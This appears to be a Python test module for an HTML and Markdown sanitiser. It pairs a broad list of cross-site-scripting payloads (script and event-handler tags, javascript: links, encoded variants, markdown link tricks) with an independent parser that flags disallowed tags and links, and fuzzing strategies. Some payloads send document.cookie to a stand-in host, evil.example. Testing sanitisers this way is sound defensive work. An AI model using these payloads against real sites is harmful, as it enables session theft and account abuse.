"""What somebody would write to harm whoever reads it, and a judge that shares no code with the cleaner."""

import re
from html.parser import HTMLParser
from itertools import product

from hypothesis import strategies as st

# What a script would be hidden in, by the ways known to work against one browser or cleaner or another.
DEEDS = (
    "alert(1)",
    "fetch('https://evil.example/'+document.cookie)",
    "location='https://evil.example'",
    "eval(atob('YWxlcnQoMSk='))",
    "top['al'+'ert'](1)",
)
TAGS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script >",
    "<script\n>{}</script\n>",
    "<script src=https://evil.example/x.js>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror\n=\n{}>",
    "<img/src=x/onerror={}>",
    '<img """><script>{}</script>">',
    "<img src=`x` onerror=`{}`>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href='javascript:{}'>x</math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}' form=x>x</button>",
    "<a href='javascript:{}'>x</a>",
    "<a href='jav&#x09;ascript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<a href=' javascript:{}'>x</a>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<p style='background:url(javascript:{})'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<textarea></textarea><img src=x onerror={}>",
    "<title></title><script>{}</script>",
    "<!--><script>{}</script>-->",
    "<!-- --!><img src=x onerror={}>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<template><script>{}</script></template>",
    "<marquee onstart={}>x</marquee>",
    "<p hx-get='/accounts/logout/' hx-trigger=load hx-on:load='{}'>x</p>",
    "<p data-hx-post='/letters/read/' data-hx-trigger=revealed title='{}'>x</p>",
    "<p id=main class=answer onclick={} popovertarget=remind>x</p>",
)
MARKS = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](&#106;avascript:{})",
    "[x](%6aavascript:{})",
    "[x](vbscript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](data:text/html;base64,{})",
    "[x](file:///etc/passwd?{})",
    "[x](//evil.example/?{})",
    "[x](/accounts/logout/?{})",
    "[x](https://evil.example 'onmouseover={}')",
    '[x](https://evil.example/"onmouseover={}")',
    "[x](<javascript:{}>)",
    "<javascript:{}>",
    "<https://evil.example/'onclick={}>",
    "![x](javascript:{})",
    "![x](https://evil.example/pixel.gif?{})",
    "![x](x 'onerror={}')",
    "[x]: javascript:{}\n\n[x]",
    "[x]: https://evil.example/'onclick={}\n\n[x]",
    "`</code><script>{}</script>`",
    "```\n</code></pre><script>{}</script>\n```",
    '```"onclick={}\nx\n```',
    "> <script>{}</script>",
    "- <img src=x onerror={}>",
    "# <svg onload={}>",
    "**<script>{}</script>**",
    "[<img src=x onerror={}>](https://evil.example)",
    "&lt;script&gt;{}&lt;/script&gt;",
)
ATTACKS = tuple(shape.format(deed) for shape, deed in product(TAGS + MARKS, DEEDS))

BARE: set[str] = set()
ALLOWED = dict.fromkeys(
    ["blockquote", "br", "code", "em", "h3", "h4", "hr", "li", "p", "pre", "strong", "ul"], BARE
) | {
    "a": {"href", "rel"},
    "ol": {"start"},
}


class Judge(HTMLParser):
    """Every tag, attribute and address that should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.link: dict[str, str | None] | None = None  # the one open now
        self.words = ""  # of it
        self.unsaid = ""  # where the link just closed leads, until that is said

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._said("")
        names = ALLOWED.get(tag)
        if names is None:
            self.wrong.append(tag)
            return
        self.wrong += [f"{tag} {name}" for name, _ in attrs if name not in names]
        said = dict(attrs)
        if tag == "a":
            self.link, self.words = said, ""
            if not _leads_out(said):
                self.wrong.append(f"a {said}")

    def handle_data(self, data: str) -> None:
        self._said(data)
        self.words += data

    def handle_endtag(self, tag: str) -> None:
        self._said("")
        if tag == "a" and self.link is not None:
            address, self.link = str(self.link.get("href")), None
            where = _as_browsers_read(address)
            self.unsaid = "" if self.words in (address, where) else where

    def close(self) -> None:
        super().close()
        self._said("")

    def _said(self, data: str) -> None:
        if self.unsaid and not data.startswith(f" ({self.unsaid})"):
            self.wrong.append(f"a leads unsaid to {self.unsaid}")
        self.unsaid = ""

    def handle_comment(self, data: str) -> None:
        self.wrong.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("an instruction")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append("a declaration")


def _leads_out(said: dict[str, str | None]) -> bool:
    where = _as_browsers_read(said.get("href") or "")
    plain = bool(where) and not set(where) & set("%?&<> \\")
    return plain and said.get("rel") == "nofollow noopener noreferrer"


def _as_browsers_read(address: str) -> str:
    """The host, or the address of mail; with whatever would make another of it left in."""
    if mail := re.fullmatch(r"mailto:(.*)", address, re.IGNORECASE | re.DOTALL):
        return mail[1]
    host = re.match(r"https?://([^/\\?#@]+)(?=[/\\?#]|$)", address, re.IGNORECASE)
    return re.sub(r":\d+$", "", host[1]).lower() if host else ""


def wrong_in(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.wrong


# Pieces that mean something to one of the two readers, in any order and depth, and any text between them.
BITS = [
    "<",
    ">",
    "&",
    '"',
    "'",
    "`",
    "*",
    "_",
    "#",
    "[",
    "]",
    "(",
    ")",
    "!",
    "/",
    ":",
    "=",
    "<a",
    "href=",
    "</a>",
    "<p",
    "</p>",
    "&#x",
    "&#60",
    "<!--",
    "-->",
    "]]>",
    "~~~",
    "```",
    "-",
    "1.",
    "[x](",
    "[x]()",
    "[x](<",
    "http://",
    "https://a.example",
    "mailto:a@b.example",
    "@b.example",
    "%2e",
    "?",
]
PIECES = st.sampled_from([*ATTACKS, *TAGS, *MARKS, *BITS, "\\", "\n", "\t", "\x00", "\u2028", "\ufeff"])
WRITTEN = st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=14).map("".join)
